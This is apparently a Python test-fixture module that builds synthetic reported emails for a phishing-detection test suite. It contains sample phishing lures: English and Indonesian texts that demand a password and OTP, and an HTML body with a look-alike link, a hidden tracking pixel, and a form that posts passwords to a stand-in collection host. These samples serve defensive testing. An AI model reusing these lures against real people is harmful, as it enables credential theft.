"""The reported-mail test corpus, written for these tests (nothing copied from real mail).

Domains: ``example.com`` is ours (notices signed with selector ``notice``), ``exarnple.com`` a
registered look-alike (it signs its own mail with selector ``s1``: DKIM passes, for the wrong
domain), ``mail.test`` an unrelated sender with SPF/DKIM/DMARC. Client IPs: 192.0.2.5 is our
outbound server (in example.com's SPF), 198.51.100.7 the look-alike's, 203.0.113.9 a stranger.
"""

from __future__ import annotations

from datetime import UTC, datetime
from email.utils import format_datetime

DATE = format_datetime(datetime(2026, 12, 6, 9, 30, tzinfo=UTC))


def received(ip: str, helo: str) -> bytes:
    """The Received header our receiving server adds (topmost)."""
    return f"Received: from {helo} ({helo} [{ip}]) by mx.corp.test with ESMTPS; {DATE}\r\n".encode()


def message(
    *,
    from_: str,
    to: str = "Budi Santoso <budi@corp.test>",
    subject: str,
    text: str | None = None,
    html: str | None = None,
    extra: str = "",
    message_id: str = "<m1@mail.test>",
) -> bytes:
    head = (
        f"From: {from_}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: {DATE}\r\nMessage-ID: {message_id}\r\n"
        f"MIME-Version: 1.0\r\n{extra}"
    )
    if html is None:
        return (head + 'Content-Type: text/plain; charset="utf-8"\r\n\r\n' + (text or "") + "\r\n").encode()
    b = "b1"
    body = (
        f'Content-Type: multipart/alternative; boundary="{b}"\r\n\r\n'
        f'--{b}\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n{text or ""}\r\n'
        f'--{b}\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n{html}\r\n--{b}--\r\n'
    )
    return (head + body).encode()


PHISH_TEXT = (
    "Dear Budi Santoso,\r\n\r\nAfter the Mixpanel data breach your workspace org-4471 in Bandung must be "
    "re-verified. Confirm your password and the one-time code within 24 hours or your account will be "
    "suspended.\r\n"
)
PHISH_HTML = (
    "<p>Dear Budi Santoso,</p><p>After the Mixpanel data breach your workspace org-4471 in Bandung must be "
    're-verified.</p><p><a href="https://exarnple.com/verify?u=budi">https://example.com/security</a></p>'
    '<div style="display:none"><a href="https://tracker.evil.test/p.gif">x</a></div>'
    '<form action="https://collect.evil.test/pw"><input name="password"></form>'
)
PHISH_ID = (
    "Yth. Budi Santoso,\r\n\r\nSetelah kebocoran data Mixpanel, akun Anda akan diblokir. "
    "Segera kirim kode OTP "
    "dan kata sandi Anda ke tim kami: https://examp1e-support.com/masuk\r\n"
)
